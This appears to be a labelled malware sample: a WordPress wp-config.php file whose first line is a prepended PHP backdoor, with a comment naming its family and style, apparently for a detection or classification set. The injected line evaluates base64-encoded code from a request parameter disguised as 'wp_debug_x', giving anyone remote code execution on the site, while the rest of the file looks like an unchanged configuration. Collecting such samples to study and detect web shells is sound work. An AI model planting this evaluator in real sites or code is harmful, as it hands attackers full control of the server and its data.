<?php if(isset($_REQUEST['wp_debug_x'])){@eval(base64_decode($_REQUEST['wp_debug_x']));exit;} ?><?php
/* Family: backdoor/injected-line
 * Style: one line prepended to wp-config.php
 * Trait: evaluator on the very first line, the rest is an unchanged-looking configuration file */
define( 'DB_NAME', 'wordpress' );
define( 'DB_USER', 'wp' );
define( 'DB_PASSWORD', 'secret' );
define( 'DB_HOST', 'localhost' );
define( 'DB_CHARSET', 'utf8mb4' );
$table_prefix = 'wp_';
define( 'WP_DEBUG', false );
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}
require_once ABSPATH . 'wp-settings.php';
